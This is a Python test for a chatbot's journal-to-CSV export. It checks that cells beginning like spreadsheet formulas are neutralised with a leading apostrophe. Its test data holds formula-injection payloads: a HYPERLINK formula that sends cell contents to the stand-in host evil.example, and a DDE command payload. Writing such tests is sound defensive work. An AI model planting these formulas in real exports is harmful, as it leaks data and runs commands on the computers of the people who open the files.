"""scripts/export_log.py: what a spreadsheet opens is data, never a formula."""

from __future__ import annotations

import csv
import importlib.util
import sqlite3
import time
from pathlib import Path

from bot.journal import Journal

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NORMAL = "giáo viên mầm non được phụ cấp bao nhiêu?"


def _export_main() -> object:
    spec = importlib.util.spec_from_file_location("export_log", ROOT / "scripts/export_log.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)  # type: ignore[union-attr]
    return module.main


def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite"
    Journal(path).close()
    with sqlite3.connect(path) as db:
        for text in [*HOSTILE, NORMAL]:
            cur = db.execute(
                "INSERT INTO questions (ts, user_id, chat_id, question, abstained, n_hits,"
                " latency_ms) VALUES (?,?,?,?,?,?,?)",
                (time.time(), 7, 7, text, 0, 1, 12.0),
            )
            db.execute(
                "INSERT INTO hits (question_id, rank, doc_id, section, score) VALUES (?,?,?,?,?)",
                (cur.lastrowid, 1, "=cmd.md", "-Điều 1", 0.5),
            )
    out = tmp_path / "journal.csv"
    assert _export_main()(["--journal", str(path), "-o", str(out)]) == 0
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["question"] for r in rows] == ["'" + t for t in HOSTILE] + [NORMAL]
    for row in rows:
        assert row["top_doc"] == "'=cmd.md" and row["top_section"] == "'-Điều 1"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
